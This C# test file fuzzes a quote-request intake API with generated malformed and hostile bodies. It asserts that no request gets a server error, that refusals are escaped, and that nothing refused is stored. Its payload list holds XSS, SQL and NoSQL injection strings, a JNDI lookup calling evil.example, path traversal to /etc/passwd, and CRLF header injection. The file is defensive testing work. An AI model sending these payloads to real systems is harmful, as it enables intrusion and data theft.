using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using LeadPlatform.TestSupport;

namespace LeadPlatform.Intake.Tests;

/// <summary>
/// Ten thousand generated malformed or hostile bodies at intake over real HTTP: wrong types, huge strings, deep nesting,
/// invalid UTF-8, control characters, script and SQL payloads, NoSQL operators where text belongs, as JSON and as form
/// posts. Never a 5xx; every refusal a ProblemDetails (or, for a browser's form post, an HTML page that escapes what it
/// shows); nothing stored for a refused request. The seed is printed; set <c>FUZZ_SEED</c> (and <c>FUZZ_BODIES</c>) to replay.
/// </summary>
public sealed class Fuzzing_the_intake(SharedIntake intake) : IClassFixture<SharedIntake>
{
    private IntakeServer Server => intake.Server;

    [Fact]
    public async Task Ten_thousand_hostile_bodies_never_get_a_5xx_and_what_is_refused_is_never_stored()
    {
        var seed = int.TryParse(Environment.GetEnvironmentVariable("FUZZ_SEED"), CultureInfo.InvariantCulture, out var s) ? s : Random.Shared.Next();
        var bodies = int.TryParse(Environment.GetEnvironmentVariable("FUZZ_BODIES"), CultureInfo.InvariantCulture, out var n) ? n : 10_000;
        var output = TestContext.Current.TestOutputHelper;
        output?.WriteLine($"fuzz seed {seed} (replay: FUZZ_SEED={seed}), {bodies} bodies");
        Console.WriteLine($"Fuzzing_the_intake: seed {seed}, {bodies} bodies");

        var before = await Server.CountAsync();
        var accepted = new ConcurrentDictionary<Guid, byte>();
        var statuses = new ConcurrentDictionary<int, int>();
        var failures = new ConcurrentQueue<string>();
        var clock = Stopwatch.StartNew();

        await Parallel.ForEachAsync(Enumerable.Range(0, bodies), new ParallelOptions { MaxDegreeOfParallelism = 4, CancellationToken = TestContext.Current.CancellationToken },
            async (index, cancellationToken) =>
            {
                var fuzz = FuzzCase.Generate(new Random(unchecked(seed * 7919 + index)));
                using var request = fuzz.ToRequest();
                using var response = await Server.Http.SendAsync(request, cancellationToken);
                var status = (int)response.StatusCode;
                statuses.AddOrUpdate(status, 1, (_, c) => c + 1);
                var problem = await CheckAsync(fuzz, response, accepted);
                if (problem is not null) failures.Enqueue($"#{index} ({fuzz.Description}) → {status}: {problem}\n  body: {fuzz.Excerpt()}");
            });

        var after = await Server.CountAsync();
        output?.WriteLine($"{bodies} bodies in {clock.Elapsed.TotalSeconds:0.0} s; statuses {string.Join(", ", statuses.OrderBy(p => p.Key).Select(p => $"{p.Key}×{p.Value}"))}; {accepted.Count} accepted");
        Assert.True(failures.IsEmpty, $"seed {seed}: {failures.Count} failures, the first ones:\n{string.Join("\n", failures.Take(10))}");
        // Everything stored was answered as accepted with its id: a refused request left nothing behind.
        Assert.Equal(before + accepted.Count, after);
        foreach (var id in accepted.Keys.Take(200)) Assert.NotNull(await Server.Store.GetAsync(id, TestContext.Current.CancellationToken));
    }

    private static async Task<string?> CheckAsync(FuzzCase fuzz, HttpResponseMessage response, ConcurrentDictionary<Guid, byte> accepted)
    {
        var status = (int)response.StatusCode;
        var text = await response.Content.ReadAsStringAsync();
        if (status >= 500) return $"a server error: {Truncate(text)}";
        switch (status)
        {
            case 202:
                var ids = JsonNode.Parse(text)!;
                accepted.TryAdd(Guid.Parse(ids["quoteRequestId"]!.GetValue<string>()), 0);
                return null;
            case 303:
                var location = response.Headers.Location?.ToString() ?? string.Empty;
                var at = location.IndexOf("quoteRequestId=", StringComparison.Ordinal);
                if (at < 0) return $"a redirect without a quote request id: {location}";
                accepted.TryAdd(Guid.Parse(location[(at + "quoteRequestId=".Length)..]), 0);
                return null;
            case >= 400 and < 500:
                var mediaType = response.Content.Headers.ContentType?.MediaType;
                if (fuzz.IsForm && !fuzz.WantsJson)
                {
                    if (mediaType != "text/html") return $"a browser's refused form post answered {mediaType}";
                    // The form re-rendered with its errors has two script elements of its own (its same-origin script and its
                    // messages as JSON data): without them, no markup from the request may appear.
                    var own = System.Text.RegularExpressions.Regex.Replace(text,
                        "<script src=\"/forms/form\\.js\" defer></script>|<script type=\"application/json\" id=\"form-data\">[^<]*</script>", string.Empty);
                    // The form keeps what was typed, escaped, in its inputs' values: "onerror=" inside a quoted value is text,
                    // only an onerror attribute of a real element is markup.
                    var handler = System.Text.RegularExpressions.Regex.IsMatch(own,
                        "<[a-zA-Z]+(\\s+[\\w:-]+(=(\"[^\"]*\"|'[^']*'|[^\\s>\"']+))?)*\\s+onerror\\s*=", System.Text.RegularExpressions.RegexOptions.IgnoreCase);
                    return own.Contains("<script", StringComparison.OrdinalIgnoreCase) || own.Contains("<img", StringComparison.OrdinalIgnoreCase) || own.Contains("<svg", StringComparison.OrdinalIgnoreCase) || handler
                        ? "the error page shows markup from the request unescaped"
                        : null;
                }
                if (mediaType != "application/problem+json") return $"a refusal as {mediaType}, not ProblemDetails: {Truncate(text)}";
                JsonObject? problem;
                try
                {
                    problem = JsonNode.Parse(text) as JsonObject;
                }
                catch (JsonException)
                {
                    return $"ProblemDetails that do not parse: {Truncate(text)}";
                }
                if (problem?["status"]?.GetValue<int>() != status || problem["title"] is null) return $"ProblemDetails without its status or title: {Truncate(text)}";
                return null;
            default:
                return $"an unexpected status: {Truncate(text)}";
        }
    }

    private static string Truncate(string text) => text.Length > 300 ? text[..300] + "…" : text;

    /// <summary>One generated request: its bytes, content type, headers, and what it was meant to try.</summary>
    private sealed record FuzzCase(string Description, byte[] Body, string? ContentType, bool IsForm, bool WantsJson, string? IdempotencyKey)
    {
        private static readonly string[] Fields =
        [
            "firstName", "lastName", "email", "phone", "dateOfBirth", "age", "country", "postalCode", "preferredChannel", "language",
            "condition", "conditionOther", "symptomDurationMonths", "treatmentsTried", "message", "consent", "consent.email",
            "consent.email.granted", "consent.email.text", "consent.email.textVersion", "consent.sms", "consent.sms.granted",
            "consent.sms.text", "consent.phone.granted", "consent.phone.text", "source", "source.formId", "source.pageUrl",
            "source.referrer", "source.utmSource", "source.utmCampaign", "website", "formRenderedAt",
        ];

        private static readonly string[] Hostile =
        [
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
            "'; DROP TABLE quote_requests;--", "' OR '1'='1", "1; SELECT * FROM users", "\" OR \"\"=\"", "admin'--",
            "{\"$gt\": \"\"}", "$where", "$ne", "this.password.match(/.*/)", "'; return true; var x='", "{$regex: \".*\"}",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
            "%00", "\0", "\u0001\u0002\u0003", "\u001b[31mred", "line\r\nSet-Cookie: a=b", "\u202egnp.exe", "\ufeffbom", "\u200b\u200b",
            "😀👩‍⚕️🧬", "Zalgơ̸̡̢̹͎̘͈̫͙̟̗̞͈̹͎̤̠̣", "مرحبا", "中文名字", "null", "undefined", "NaN", "true", "-1", "1e309",
            "0x7fffffff", "2147483648", "-0", "   ", "", "\t", "a@b", "maria@exa mple.com", "+1 415 555 0134", "+999999999999999999",
            "00000000-0000-0000-0000-000000000000", "2026-02-30", "0001-01-01", "9999-12-31", "https://evil.example/<x>", "//evil.example",
            "data:text/html,<script>alert(1)</script>", "spondylolysis", "other", "rest", "email", "US", "free-quote",
        ];

        private static readonly string[] NoSqlOperators =
            ["{\"$gt\":\"\"}", "{\"$ne\":null}", "{\"$where\":\"sleep(1000)\"}", "{\"$regex\":\".*\"}", "{\"$in\":[\"a\",\"b\"]}", "{\"$exists\":true}", "[{\"$gt\":\"\"}]"];

        public static FuzzCase Generate(Random random) => random.Next(10) switch
        {
            < 5 => MutatedJson(random),
            5 => RawJson(random),
            6 => DeepJson(random),
            7 => InvalidUtf8Json(random),
            _ => Form(random),
        };

        public HttpRequestMessage ToRequest()
        {
            var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/quote-requests") { Content = new ByteArrayContent(Body) };
            if (ContentType is not null) request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(ContentType);
            if (IsForm) request.Headers.Add("Origin", IntakeServer.TestOrigin);
            else request.Headers.Add("X-Api-Key", IntakeServer.TestKey);
            if (WantsJson) request.Headers.Accept.ParseAdd("application/problem+json");
            else if (IsForm) request.Headers.Accept.ParseAdd("text/html,application/xhtml+xml,*/*;q=0.8");
            if (IdempotencyKey is not null) request.Headers.TryAddWithoutValidation("Idempotency-Key", IdempotencyKey);
            return request;
        }

        public string Excerpt()
        {
            var text = Encoding.UTF8.GetString(Body);
            return text.Length > 400 ? text[..400] + "…" : text;
        }

        private static FuzzCase MutatedJson(Random random)
        {
            var body = SampleQuoteRequest.Create(email: $"fuzz.{random.Next():x}@fastmail.com", phone: random.Next(10) == 0 ? "+1 415 555 0134" : null);
            var mutations = new List<string>();
            for (var i = random.Next(1, 4); i > 0; i--)
            {
                var field = Fields[random.Next(Fields.Length)];
                var (value, what) = HostileValue(random);
                Set(body, field, value);
                mutations.Add($"{field}={what}");
            }
            var json = body.ToJsonString();
            var contentType = random.Next(20) switch
            {
                0 => "application/json; charset=utf-16",
                1 => "application/problem+json",
                2 => "application/vnd.api+json",
                3 => "text/json",
                _ => "application/json",
            };
            return new FuzzCase($"json {string.Join(", ", mutations)}", Encoding.UTF8.GetBytes(json), contentType, false, true, MaybeIdempotencyKey(random));
        }

        private static (JsonNode? Value, string What) HostileValue(Random random)
        {
            switch (random.Next(12))
            {
                case 0: return (JsonValue.Create(random.Next() * (random.Next(2) == 0 ? -1 : 1)), "number");
                case 1: return (JsonValue.Create(random.Next(2) == 0), "bool");
                case 2: return (null, "null");
                case 3: return (new JsonArray(Hostile[random.Next(Hostile.Length)], 1, null), "array");
                case 4: return (JsonNode.Parse(NoSqlOperators[random.Next(NoSqlOperators.Length)]), "nosql operator");
                case 5: return (JsonValue.Create(new string("a<'$\u00e9\u4e2d"[random.Next(6)], random.Next(90, 40_000))), "huge string");
                case 6: return (JsonValue.Create(RandomText(random, random.Next(1, 200))), "random text");
                case 7: return (JsonValue.Create(1e300 * random.NextDouble()), "huge number");
                case 8: return (new JsonObject { ["a"] = new JsonObject { ["b"] = Hostile[random.Next(Hostile.Length)] } }, "object");
                default: return (JsonValue.Create(Hostile[random.Next(Hostile.Length)]), "hostile string");
            }
        }

        private static string RandomText(Random random, int length)
        {
            var chars = new char[length];
            for (var i = 0; i < length; i++)
            {
                chars[i] = random.Next(6) switch
                {
                    0 => (char)random.Next(0, 32),          // control characters
                    1 => (char)random.Next(0xD800, 0xE000), // lone surrogates
                    2 => (char)random.Next(0x80, 0x3000),
                    3 => "<>\"'&;$%{}[]\\/`"[random.Next(15)],
                    _ => (char)random.Next(32, 127),
                };
            }
            return new string(chars);
        }

        private static void Set(JsonObject body, string path, JsonNode? value)
        {
            var parts = path.Split('.');
            var node = body;
            foreach (var part in parts[..^1])
            {
                if (node[part] is not JsonObject child)
                {
                    child = new JsonObject();
                    node[part] = child;
                }
                node = child;
            }
            node[parts[^1]] = value;
        }

        private static string? MaybeIdempotencyKey(Random random) => random.Next(10) switch
        {
            0 => Guid.NewGuid().ToString(),
            1 => new string(Hostile[random.Next(Hostile.Length)].Where(c => c is >= ' ' and <= '~').ToArray()), // HTTP headers are ASCII
            2 => new string('k', random.Next(150, 260)),
            _ => null,
        };

        private static FuzzCase RawJson(Random random)
        {
            var valid = SampleQuoteRequest.Create().ToJsonString();
            string text;
            string what;
            switch (random.Next(8))
            {
                case 0: text = valid[..random.Next(valid.Length)]; what = "truncated"; break;
                case 1: text = valid.Replace("\"firstName\":\"Maria\"", "\"firstName\":\"Maria\",\"firstName\":{\"$gt\":\"\"}", StringComparison.Ordinal); what = "duplicate key"; break;
                case 2: text = random.Next(4) switch { 0 => "[]", 1 => "null", 2 => "42", _ => "\"text\"" }; what = "not an object"; break;
                case 3: text = "\ufeff" + valid; what = "BOM"; break;
                case 4: text = valid.Replace("\"age\"", "\"age\"", StringComparison.Ordinal).Replace("\"symptomDurationMonths\":8", "\"symptomDurationMonths\":" + (random.Next(2) == 0 ? "1e999" : "99999999999999999999"), StringComparison.Ordinal); what = "number overflow"; break;
                case 5: text = "{" + string.Join(",", Enumerable.Range(0, random.Next(100, 3000)).Select(i => $"\"k{i}\":{i}")) + "}"; what = "many keys"; break;
                case 6: text = valid.Replace("Maria", "Ma\\ud800ria", StringComparison.Ordinal); what = "escaped lone surrogate"; break;
                default: text = RandomText(random, random.Next(0, 500)); what = "random text"; break;
            }
            return new FuzzCase($"raw json: {what}", Encoding.UTF8.GetBytes(text), "application/json", false, true, null);
        }

        private static FuzzCase DeepJson(Random random)
        {
            var depth = random.Next(10, 5000);
            var field = Fields[random.Next(Fields.Length)].Split('.')[0];
            var open = random.Next(2) == 0 ? "[" : "{\"a\":";
            var close = open == "[" ? "]" : "}";
            var nested = new StringBuilder().Insert(0, open, depth).Append("1").Insert(depth * open.Length + 1, close, depth).ToString();
            var valid = SampleQuoteRequest.Create();
            var text = valid.ToJsonString().Replace($"\"{field}\":", $"\"{field}\":{nested},\"ignored{field}\":", StringComparison.Ordinal);
            return new FuzzCase($"deep nesting {depth} in {field}", Encoding.UTF8.GetBytes(text), "application/json", false, true, null);
        }

        private static FuzzCase InvalidUtf8Json(Random random)
        {
            byte[][] invalid = [[0xC3, 0x28], [0xFF], [0xFE, 0xFF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xC0, 0xAF], [0xE2, 0x82], [0x80]];
            var valid = Encoding.UTF8.GetBytes(SampleQuoteRequest.Create().ToJsonString());
            var bytes = valid.ToList();
            var count = random.Next(1, 4);
            for (var i = 0; i < count; i++)
            {
                // Inside a string value (after "Maria") or anywhere.
                var at = random.Next(2) == 0 ? Math.Max(0, SearchBytes(valid, "Maria"u8.ToArray())) + 2 : random.Next(bytes.Count);
                bytes.InsertRange(Math.Min(at, bytes.Count), invalid[random.Next(invalid.Length)]);
            }
            return new FuzzCase("invalid UTF-8", bytes.ToArray(), "application/json", false, true, null);
        }

        private static int SearchBytes(byte[] haystack, byte[] needle) => haystack.AsSpan().IndexOf(needle);

        private static FuzzCase Form(Random random)
        {
            var fields = IntakeServer.FormOf(SampleQuoteRequest.Create(email: $"fuzz.{random.Next():x}@fastmail.com", phone: random.Next(10) == 0 ? "+1 415 555 0134" : null));
            var mutations = new List<string>();
            string encoded;
            if (random.Next(6) == 0)
            {
                // Raw bytes: invalid percent-encoding and invalid UTF-8 behind valid escapes.
                var raw = string.Join("&", fields.Select(f => $"{WebUtility.UrlEncode(f.Key)}={WebUtility.UrlEncode(f.Value)}"));
                string[] junk = ["%FF%FE", "%C3%28", "%ED%A0%80", "%", "%zz", "%00", "&&&", "=&=", "firstName=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "consent.email.granted=maybe"];
                var insert = junk[random.Next(junk.Length)];
                var at = raw.IndexOf('=', random.Next(raw.Length)) is var eq && eq >= 0 ? eq + 1 : raw.Length;
                encoded = raw.Insert(at, insert);
                mutations.Add($"raw {insert}");
            }
            else
            {
                for (var i = random.Next(1, 4); i > 0; i--)
                {
                    var field = Fields[random.Next(Fields.Length)];
                    var value = random.Next(5) switch
                    {
                        0 => new string('x', random.Next(90, 40_000)),
                        1 => RandomText(random, random.Next(1, 100)),
                        2 => NoSqlOperators[random.Next(NoSqlOperators.Length)],
                        _ => Hostile[random.Next(Hostile.Length)],
                    };
                    fields.RemoveAll(f => f.Key == field);
                    fields.Add(new(random.Next(10) == 0 ? field + "[$gt]" : field, value));
                    mutations.Add(field);
                }
                if (random.Next(20) == 0)
                {
                    fields.AddRange(Enumerable.Range(0, 300).Select(i => new KeyValuePair<string, string>($"extra{i}", "x")));
                    mutations.Add("300 fields");
                }
                if (random.Next(20) == 0)
                {
                    fields.Add(new(new string('k', 300), "long key"));
                    mutations.Add("long key");
                }
                encoded = string.Join("&", fields.Select(f => $"{WebUtility.UrlEncode(f.Key)}={WebUtility.UrlEncode(f.Value)}"));
            }
            var wantsJson = random.Next(2) == 0;
            return new FuzzCase($"form {string.Join(", ", mutations)}", Encoding.ASCII.GetBytes(encoded), "application/x-www-form-urlencoded", true, wantsJson, null);
        }
    }
}
